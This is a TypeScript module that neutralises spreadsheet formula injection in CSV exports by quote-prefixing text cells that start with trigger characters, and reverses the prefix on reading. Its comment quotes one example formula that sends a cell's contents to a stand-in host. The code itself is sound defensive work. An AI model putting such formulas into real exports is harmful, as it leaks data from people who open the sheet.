/**
 * Spreadsheet formula injection (CSV injection): a text cell that starts with = + - @ tab or carriage
 * return is run as a formula by Excel, LibreOffice and Google Sheets, so a model or rater named
 * `=HYPERLINK("http://x.example/?leak="&A1,"click")` could leak the sheet. OWASP's defence: prefix
 * such cells with a single quote, which spreadsheets show as text. Numbers are never prefixed (scores
 * may be negative); only text cells are.
 *
 * The mapping is reversible so BlindRate reads its own CSV back to the original text: every text that
 * starts with quotes followed by a trigger character gets one more quote, and reading removes one.
 */
const NEEDS_QUOTE = /^'*[=+\-@\t\r]/;
const QUOTED = /^'+[=+\-@\t\r]/;

export function neutraliseFormulaText(text: string): string {
  return NEEDS_QUOTE.test(text) ? `'${text}` : text;
}

export function restoreFormulaText(cell: string): string {
  // The first-character check spares the regular expression on nearly every cell of a large file.
  return cell.charCodeAt(0) === 0x27 /* ' */ && QUOTED.test(cell) ? cell.slice(1) : cell;
}
